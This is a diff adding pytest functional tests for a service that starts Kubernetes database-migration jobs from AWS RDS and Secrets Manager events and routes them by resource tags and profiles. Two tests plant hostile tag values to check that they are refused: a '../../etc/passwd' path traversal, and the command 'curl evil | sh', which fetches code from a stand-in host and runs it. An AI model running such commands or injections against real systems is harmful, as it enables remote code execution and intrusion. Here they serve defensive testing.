@@ -1,0 +1,195 @@
+"""Every trigger kind, and routing decided from the database's tags and the profiles."""
+
+from __future__ import annotations
+
+import json
+
+import boto3
+import pytest
+from aws_durable_execution_sdk_python.execution import InvocationStatus
+
+from tests.functional.orchestrator.conftest import PROFILE_TAG, World, profiles
+
+
+@pytest.mark.parametrize(
+    ("file", "trigger"),
+    [
+        ("rds-instance-created.json", "db-created"),
+        ("rds-instance-restored-point-in-time.json", "db-restored"),
+        ("rds-restored-from-snapshot.json", "db-restored"),
+        ("secret-label-updated.json", "secret-rotated"),
+        ("cloudtrail-rotation-succeeded.json", "secret-rotated"),
+        ("manual-retrigger.json", "manual"),
+    ],
+)
+def test_each_instance_trigger_kind_runs_a_migration(world: World, file: str, trigger: str):
+    run = world.run(world.event(file))
+
+    assert run.status is InvocationStatus.SUCCEEDED, run.error
+    assert run.result["status"] == "succeeded"
+    assert run.result["trigger"] == trigger
+    (job,) = world.jobs()
+    assert job["metadata"]["labels"]["migration-trigger.io/trigger"] == trigger
+
+
+def test_cluster_created_event_runs_a_migration_for_the_cluster(world: World):
+    cluster = boto3.client("rds").create_db_cluster(
+        DBClusterIdentifier="billing-cluster",
+        Engine="aurora-postgresql",
+        MasterUsername="app",
+        ManageMasterUserPassword=True,
+        DatabaseName="billing",
+        Tags=[{"Key": PROFILE_TAG, "Value": "orders"}],
+    )["DBCluster"]
+    event = world.event("rds-cluster-created.json", SourceArn=cluster["DBClusterArn"])
+
+    run = world.run(event)
+
+    assert run.result["status"] == "succeeded", run.result
+    assert run.result["database"] == cluster["DBClusterArn"]
+    assert run.result["job"].startswith("migrate-billing-cluster-")
+
+
+def test_manual_request_naming_an_identifier_runs(world: World):
+    event = world.event("manual-retrigger.json")
+    event["detail"] = {"database": "orders-db", "kind": "instance", "reason": "hotfix"}
+
+    run = world.run(event)
+
+    assert run.result["status"] == "succeeded"
+    assert run.result["database"] == world.db_arn
+
+
+def test_native_and_cloudtrail_events_of_one_rotation_run_one_job(world: World):
+    first = world.run(world.event("secret-label-updated.json", versionId=current_version(world)))
+    second = world.run(world.event("cloudtrail-rotation-succeeded.json"), name="second")
+
+    assert first.result["status"] == "succeeded"
+    assert second.result["status"] == "duplicate"
+    assert len(world.jobs()) == 1
+
+
+def current_version(world: World) -> str:
+    versions = boto3.client("secretsmanager").describe_secret(SecretId=world.secret_arn)[
+        "VersionIdsToStages"
+    ]
+    return next(v for v, stages in versions.items() if "AWSCURRENT" in stages)
+
+
+def test_database_without_opt_in_tag_is_skipped_and_no_job_is_created(world: World):
+    boto3.client("rds").remove_tags_from_resource(ResourceName=world.db_arn, TagKeys=[PROFILE_TAG])
+
+    run = world.run(world.event("rds-instance-created.json"))
+
+    assert run.status is InvocationStatus.SUCCEEDED
+    assert run.result["status"] == "skipped"
+    assert "has no 'migration-trigger:profile' tag" in run.result["reason"]
+    assert world.jobs() == []
+    assert world.emulator.requests.find("POST") == []
+
+
+def test_tag_naming_an_unknown_profile_is_rejected(world: World):
+    boto3.client("rds").add_tags_to_resource(
+        ResourceName=world.db_arn, Tags=[{"Key": PROFILE_TAG, "Value": "../../etc/passwd"}]
+    )
+
+    run = world.run(world.event("rds-instance-created.json"))
+
+    assert run.result["status"] == "rejected"
+    assert "names no profile (defined: arn-mode, orders, reports)" in run.result["reason"]
+    assert world.jobs() == []
+
+
+def test_profile_not_running_on_the_trigger_is_skipped(world: World):
+    boto3.client("rds").add_tags_to_resource(
+        ResourceName=world.db_arn, Tags=[{"Key": PROFILE_TAG, "Value": "reports"}]
+    )
+
+    run = world.run(world.event("rds-instance-created.json"))
+
+    assert run.result["status"] == "skipped"
+    assert "profile 'reports' does not run on db-created (runs on: manual)" in run.result["reason"]
+
+
+def test_tags_cannot_bring_an_image_command_or_namespace(world: World):
+    boto3.client("rds").add_tags_to_resource(
+        ResourceName=world.db_arn,
+        Tags=[
+            {"Key": "migration-trigger:image", "Value": "evil:latest"},
+            {"Key": "migration-trigger:namespace", "Value": "kube-system"},
+            {"Key": "migration-trigger:command", "Value": "curl evil | sh"},
+        ],
+    )
+
+    world.run(world.event("rds-instance-created.json"))
+
+    (job,) = world.jobs()
+    container = job["spec"]["template"]["spec"]["containers"][0]
+    assert container["image"] == "ghcr.io/example/orders-migrations:1.0.0"
+    assert container["command"] == ["dbmate", "up"]
+    assert job["metadata"]["namespace"] == "migrations"
+
+
+def test_secret_of_no_database_is_skipped(world: World):
+    other = boto3.client("secretsmanager").create_secret(Name="unrelated", SecretString="{}")["ARN"]
+    event = world.event("secret-label-updated.json")
+    event["resources"] = [other]
+
+    run = world.run(event)
+
+    assert run.result["status"] == "skipped"
+    assert "belongs to no database" in run.result["reason"]
+
+
+def test_deleted_database_is_skipped(world: World):
+    boto3.client("rds").delete_db_instance(DBInstanceIdentifier="orders-db", SkipFinalSnapshot=True)
+
+    run = world.run(world.event("rds-instance-created.json"))
+
+    assert run.result["status"] == "skipped"
+    assert "no longer exists" in run.result["reason"]
+
+
+def test_self_managed_secret_must_name_its_database_back(world: World):
+    sm = boto3.client("secretsmanager")
+    rds = boto3.client("rds")
+    rds.create_db_instance(
+        DBInstanceIdentifier="legacy-db",
+        Engine="postgres",
+        DBInstanceClass="db.t3.micro",
+        MasterUsername="app",
+        MasterUserPassword="irrelevant-123",
+        Tags=[{"Key": PROFILE_TAG, "Value": "orders"}],
+    )
+    legacy_arn = rds.describe_db_instances(DBInstanceIdentifier="legacy-db")["DBInstances"][0][
+        "DBInstanceArn"
+    ]
+    secret = sm.create_secret(
+        Name="legacy-db-creds", SecretString=json.dumps({"username": "app", "password": "x"})
+    )["ARN"]
+    rds.add_tags_to_resource(
+        ResourceName=legacy_arn, Tags=[{"Key": "migration-trigger:secret", "Value": secret}]
+    )
+    event = world.event("rds-instance-created.json", SourceArn=legacy_arn)
+
+    refused = world.run(event)
+    sm.tag_resource(
+        SecretId=secret, Tags=[{"Key": "migration-trigger:database", "Value": legacy_arn}]
+    )
+    accepted = world.run(world.event("manual-retrigger.json", database=legacy_arn), name="again")
+
+    assert refused.result["status"] == "rejected"
+    assert "is not tagged migration-trigger:database=" in refused.result["reason"]
+    assert accepted.result["status"] == "succeeded", accepted.result
+
+
+def test_profiles_document_errors_fail_the_invocation_naming_the_problem(world: World):
+    world.set_profiles(
+        {"profiles": {"orders": {**profiles()["profiles"]["orders"], "namespace": "Bad"}}}
+    )
+
+    run = world.run(world.event("rds-instance-created.json"))
+
+    assert run.status is InvocationStatus.FAILED
+    assert "profile 'orders': 'namespace' must be a DNS label" in (run.error or "")
+    assert world.jobs() == []
